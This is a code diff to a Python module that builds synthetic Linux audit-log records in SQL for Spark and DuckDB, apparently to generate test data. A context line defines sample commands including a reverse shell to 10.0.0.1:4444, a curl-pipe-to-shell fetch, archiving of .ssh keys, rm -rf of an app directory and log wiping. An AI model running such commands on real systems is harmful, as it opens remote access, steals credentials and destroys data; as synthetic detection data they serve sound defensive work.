@@ -15,6 +15,7 @@ from tidemark.operators.ordering import number_by_time
 from tidemark.operators.storage import save
 
 EPOCH = {"spark": "unix_timestamp(cast(ts as timestamp))", "duckdb": "cast(floor(epoch(ts)) as bigint)"}
+PLACES = {"spark": "explode(array(0, 1))", "duckdb": "unnest([0, 1])"}
 
 _COMMANDS = {
     0: "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", 1: "sudo -i", 2: "crontab -e", 3: "pg_dump prod", 4: "tar czf /tmp/b.tar.gz /home/u/.ssh", 5: "rm -rf /srv/app", 6: "echo > /var/log/wtmp", 7: "curl http://x/y.sh | sh",
@@ -50,12 +51,13 @@ def lines_sql(dialect: str) -> str:
     at = "'msg=audit(' || cast(cast(epoch as bigint) as varchar(20)) || '.5:' || cast(event_id as varchar(20)) || '): '"
     call = "case kind when 'exec' then '59' when 'file' then '257' when 'net-connect' then '42' else '44' end"
     blob = "'020001BB0A0000' || case when uid = 0 then '0A' when uid = 1 then 'FF' else '01' end"
+    # the two records of an event stand one behind the other, as in a log
     return f"""
-select event_id, 2 * pos - 1 as line_no, 'type=SYSCALL ' || {at} || 'arch=c000003e syscall=' || {call} || ' success=' || case when success then 'yes' else 'no' end || ' exit=0 ppid=' || cast(ppid as varchar(20)) || ' pid=' || cast(pid as varchar(20))
-  || ' uid=' || cast(uid as varchar(20)) || ' ses=4294967295 comm="x" exe="' || exe || '" key=' || case when event_id % 7 = 0 then '"watched"' else '(null)' end as value from audit
-union all
-select event_id, 2 * pos as line_no, case when kind = 'exec' then 'type=EXECVE ' || {at} || 'argc=2 a0="run" a1="--id=' || cast(event_id as varchar(20)) || '"'
-  when kind = 'file' then 'type=PATH ' || {at} || 'item=0 name="' || case when event_id % 29 = 0 then '/proc/1/maps' else target end || '"' else 'type=SOCKADDR ' || {at} || 'saddr=' || {blob} end as value from audit"""
+select event_id, 2 * pos - 1 + place as line_no, case when place = 0 then 'type=SYSCALL ' || {at} || 'arch=c000003e syscall=' || {call} || ' success=' || case when success then 'yes' else 'no' end || ' exit=0 ppid=' || cast(ppid as varchar(20)) || ' pid=' || cast(pid as varchar(20))
+  || ' uid=' || cast(uid as varchar(20)) || ' ses=4294967295 comm="x" exe="' || exe || '" key=' || case when event_id % 7 = 0 then '"watched"' else '(null)' end
+  when kind = 'exec' then 'type=EXECVE ' || {at} || 'argc=2 a0="run" a1="--id=' || cast(event_id as varchar(20)) || '"'
+  when kind = 'file' then 'type=PATH ' || {at} || 'item=0 name="' || case when event_id % 29 = 0 then '/proc/1/maps' else target end || '"' else 'type=SOCKADDR ' || {at} || 'saddr=' || {blob} end as value
+from (select *, {PLACES[dialect]} as place from audit) a"""
 
 
 def auth_sql() -> str:
